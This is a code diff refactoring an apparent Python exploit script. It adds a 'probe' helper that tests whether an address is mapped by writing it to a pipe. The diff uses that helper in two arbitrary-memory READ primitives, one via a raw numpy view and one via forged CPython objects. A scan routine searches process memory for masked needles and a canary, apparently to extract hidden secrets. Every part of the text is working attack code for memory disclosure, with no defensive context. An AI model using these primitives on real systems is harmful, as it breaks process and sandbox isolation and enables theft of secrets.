@@ -63,6 +63,15 @@ def unmask(masked):
 
 R, W = os.pipe()
 PAGE = 4096
+
+def probe(view, n):
+    """The n bytes behind `view`, or None when they are not mapped: the
+    kernel's copy into a pipe fails with EFAULT where a read would crash."""
+    try:
+        os.write(W, view)
+    except OSError:
+        return None
+    return os.read(R, n)
 CHUNK = 16 * PAGE
 
 def scan(read, seeds, needles_masked, canary_masked, limit_pages=60_000):
@@ -120,12 +129,7 @@ class _View:
 def READ(addr, n):
     if addr <= 0:
         return None
-    view = np.asarray(_View(addr, n))
-    try:
-        os.write(W, view)
-    except OSError:
-        return None
-    return os.read(R, n)
+    return probe(np.asarray(_View(addr, n)), n)
 
 def ADDRESS_OF(buffer):
     return np.frombuffer(buffer, np.uint8).__array_interface__["data"][0]
@@ -163,11 +167,7 @@ def READ(addr, n):
         return None
     view = _forge((offset // 8) & 0xFFFFFFFF, consts)()
     _keep.extend((fake, holder, consts, view))
-    try:
-        os.write(W, view)
-    except OSError:
-        return None
-    return os.read(R, n)
+    return probe(view, n)
 
 def ADDRESS_OF(buffer):
     # bytearray's ob_start (offset 40 in 3.11), read through the forged route.
